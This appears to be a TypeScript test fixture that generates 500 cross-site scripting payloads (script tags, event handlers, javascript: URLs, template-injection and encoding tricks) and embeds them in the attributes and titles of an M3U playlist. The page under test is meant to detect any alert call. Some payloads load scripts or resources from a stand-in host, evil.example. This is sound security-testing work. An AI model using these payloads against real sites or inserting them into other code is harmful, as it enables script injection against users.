/** What a payload would do if it ran; `N` stands for its number. The page under test tells any call of `alert`. */
const deeds = ['alert(N)', 'alert`N`', 'top[`al`+`ert`](N)', "eval('alert(N)')", 'setTimeout(alert,0,N)'] as const;

/** Ways in, of the kinds that lists of such payloads know; `DEED` stands for what is done. */
const ways = [
  '<script>DEED</script>',
  '<ScRiPt >DEED</sCrIpT >',
  '</title><script>DEED</script>',
  '</textarea><script>DEED</script>',
  '</style><script>DEED</script>',
  '--><script>DEED</script><!--',
  ']]><script>DEED</script>',
  '<scr<script>ipt>DEED</scr</script>ipt>',
  '<script src=//evil.example/N.js></script>',
  '<script src="https://evil.example/N.js"></script>',
  '<img src=x onerror=DEED>',
  '<img src=x onerror="DEED">',
  "<img src=x onerror='DEED'>",
  '<img/src=x/onerror=DEED>',
  '<img src="https://evil.example/N.png" onload=DEED>',
  '<img srcset="https://evil.example/N.png 1x">',
  '<svg onload=DEED>',
  '<svg/onload=DEED>',
  '<svg><script>DEED</script></svg>',
  '<svg><animate onbegin=DEED attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=DEED>">',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=DEED>',
  '<body onload=DEED>',
  '<iframe src="javascript:DEED"></iframe>',
  '<iframe srcdoc="<script>DEED</script>"></iframe>',
  '<iframe src=https://evil.example/N></iframe>',
  '<object data="javascript:DEED"></object>',
  '<embed src="https://evil.example/N.swf">',
  '<link rel=stylesheet href=https://evil.example/N.css>',
  '<link rel=prefetch href=https://evil.example/N>',
  '<style>@import "https://evil.example/N.css";</style>',
  '<style>*{background:url(https://evil.example/N)}</style>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/N">',
  '<form action=https://evil.example/N><button autofocus onfocus=DEED>',
  '<input autofocus onfocus=DEED>',
  '<details open ontoggle=DEED>',
  '<video><source onerror=DEED></video>',
  '<audio src=x onerror=DEED>',
  '<marquee onstart=DEED>',
  '<a href="javascript:DEED">go</a>',
  '<div style="background:url(https://evil.example/N)">',
  '<div style="width:expression(DEED)">',
  '<p onpointerenter=DEED onmouseover=DEED>over',
  '" onmouseover="DEED" x="',
  "' onfocus='DEED' autofocus '",
  '"><script>DEED</script>',
  "'><img src=x onerror=DEED>",
  '` onerror=DEED `',
  '";DEED;//',
  "';DEED;//",
  '\\";DEED;//',
  '</script><script>DEED</script>',
  'javascript:DEED',
  'JaVaScRiPt:DEED',
  'java\tscript:DEED',
  '\u0001javascript:DEED',
  'data:text/html,<script>DEED</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:DEED',
  'https://evil.example/N.png',
  '//evil.example/N.png',
  '\\\\evil.example\\N.png',
  'url(https://evil.example/N)',
  '$' + '{DEED}',
  '{{DEED}}',
  '{{constructor.constructor("DEED")()}}',
  '#{DEED}',
  '<%= DEED %>',
  '&lt;script&gt;DEED&lt;/script&gt;',
  '&#60;script&#62;DEED&#60;/script&#62;',
  '\\u003cscript\\u003eDEED\\u003c/script\\u003e',
  '%3Cscript%3EDEED%3C/script%3E',
  '＜script＞DEED＜/script＞',
  '<script\u0000>DEED</script>',
  '<\u0000script>DEED</script>',
  '__proto__',
  'constructor',
  '[object Object]',
  '\u202e<script>DEED</script>',
  '<noscript><p title="</noscript><img src=x onerror=DEED>">',
  '<template><script>DEED</script></template>',
  '<a id=location href=https://evil.example/N>',
  '<img name=getElementById>',
  '<form id=test><input name=attributes>',
  '<custom-element onclick=DEED tabindex=1 autofocus>x',
  '<select autofocus onfocus=DEED>',
  '<keygen autofocus onfocus=DEED>',
  '<isindex action=javascript:DEED type=image>',
  '<xss style="animation-name:x" onanimationstart=DEED>',
  '<picture><source srcset="https://evil.example/N.webp"><img></picture>',
  '<image src=x onerror=DEED>',
  '<frameset onload=DEED>',
  '<table background="javascript:DEED">',
  '<bgsound src="https://evil.example/N">',
  '<portal src="https://evil.example/N">',
  '<dialog open onclose=DEED>',
  '<script type=module>import "https://evil.example/N.js"</script>',
  '<script nonce="{{nonce}}">DEED</script>',
  '{{nonce}}"><script>DEED</script>',
] as const;

/** 500 texts, no two alike. */
export const payloads: readonly string[] = deeds.flatMap((deed, i) =>
  ways.map((way, j) => {
    const payload = way.replaceAll('DEED', deed).replaceAll('N', String(i * ways.length + j));
    return payload === way && i > 0 ? `${way} ${i}` : payload;
  }),
);

/**
 * A playlist whose titles, groups, logos, ids and other attributes are the payloads. Quotes end an attribute, and so
 * stand as they do in the wild: sometimes plain, sometimes as entities.
 */
export function hostilePlaylist(): string {
  const entries = payloads.flatMap((payload, i) => {
    const quoted = payload.replaceAll('"', '&quot;').replaceAll('\n', ' ');
    const series = i % 4 === 3;
    const title = series ? `${payload} S01E0${(i % 9) + 1}` : `${payload} (${1960 + (i % 60)})`;
    const path = series ? 'series' : 'movie';
    return [
      `#EXTINF:-1 tvg-id="${quoted}" tvg-name="${quoted}" tvg-logo="${quoted}" group-title="${quoted}",${title}`,
      `http://p.example/${path}/canary-user/canary-pass/${i + 1}.mkv`,
    ];
  });
  return `#EXTM3U\n${entries.join('\n')}\n`;
}
